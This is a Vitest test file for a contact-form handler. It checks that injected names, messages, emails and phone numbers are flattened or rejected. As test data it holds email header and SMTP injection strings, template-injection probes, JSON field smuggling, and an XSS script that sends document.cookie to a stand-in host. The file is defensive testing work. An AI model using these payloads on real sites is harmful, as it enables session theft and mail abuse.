import { describe, expect, test } from 'vitest';
import {
  arrived,
  damaris,
  messageCalls,
  postForm,
  postJson,
  withToken,
} from '../../support/contact-post.ts';
import { siteForFile } from '../../support/site.ts';

const site = await siteForFile();

const script = '<script>fetch("https://elsewhere.example/"+document.cookie)</script>';
const breaking = /[\p{Cc}\p{Zl}\p{Zp}]/u;

describe.each([
  ['JSON', postJson],
  ['a form', postForm],
])('as %s', (_, submit) => {
  test.each([
    ['Damaris\r\nBcc: everyone@example.org', 'Damaris Bcc: everyone@example.org'],
    ['Damaris\r\n\r\n<h1>A body of its own</h1>', 'Damaris <h1>A body of its own</h1>'],
    ['Damaris\r\n.\r\nMAIL FROM:<x@y.example>', 'Damaris . MAIL FROM:<x@y.example>'],
    ['Damaris\u2028Bcc: x', 'Damaris Bcc: x'],
    ['Damaris\u0000\u001b[31m', 'Damaris [31m'],
    ['Damaris%0d%0aBcc:%20x', 'Damaris%0d%0aBcc:%20x'],
    ['=?utf-8?Q?=0d=0aBcc:_x?=', '=?utf-8?Q?=0d=0aBcc:_x?='],
    [script, script],
    ['{{7*7}} #{7*7} <%= 7*7 %>', '{{7*7}} #{7*7} <%= 7*7 %>'],
    ['","recipient":"x@y.example","a":"', '","recipient":"x@y.example","a":"'],
  ])('the name %j arrives as the text %j', async (full_name, expected) => {
    const submitted = withToken({ ...damaris, full_name });
    expect((await submit(site, submitted)).status).toBe(200);
    const [message] = arrived(site);
    expect(message?.visitor_name).not.toMatch(breaking);
    expect(message).toMatchObject({
      visitor_name: expected,
      visitor_email: damaris.email,
      visitor_message: damaris.message,
      recipient: 'ministry@example.org',
      recaptcha_token: submitted.recaptcha_token,
    });
  });

  test.each([
    [script, script],
    ['Words.\r\nBcc: everyone@example.org', 'Words.\nBcc: everyone@example.org'],
    ['Words.\u0000\u001b[31m\u0007', 'Words.[31m'],
  ])('the message %j arrives as the text %j', async (message, expected) => {
    expect((await submit(site, withToken({ ...damaris, message }))).status).toBe(200);
    expect(arrived(site)[0]?.visitor_message).toBe(expected);
  });

  test.each([
    ['email', 'damaris@example.org\r\nBcc: everyone@example.org'],
    ['email', 'damaris@example.org, everyone@example.org'],
    ['phone', '555-123-4567\r\nBcc: everyone@example.org'],
    ['phone', script],
  ])('the %s %j is rejected', async (field, value) => {
    const before = messageCalls(site);
    const response = await submit(site, withToken({ ...damaris, [field]: value }));
    expect(response.status).toBe(422);
    expect(messageCalls(site)).toBe(before);
  });

  test.each([
    ['email', 'damaris@example.org\r\n', 'visitor_email', 'damaris@example.org'],
    ['phone', '555\t123\t4567\r\n', 'visitor_phone', '555 123 4567'],
  ] as const)('the %s %j arrives in one line', async (field, value, arrives, expected) => {
    expect((await submit(site, withToken({ ...damaris, [field]: value }))).status).toBe(200);
    expect(arrived(site)[0]?.[arrives]).toBe(expected);
  });
});
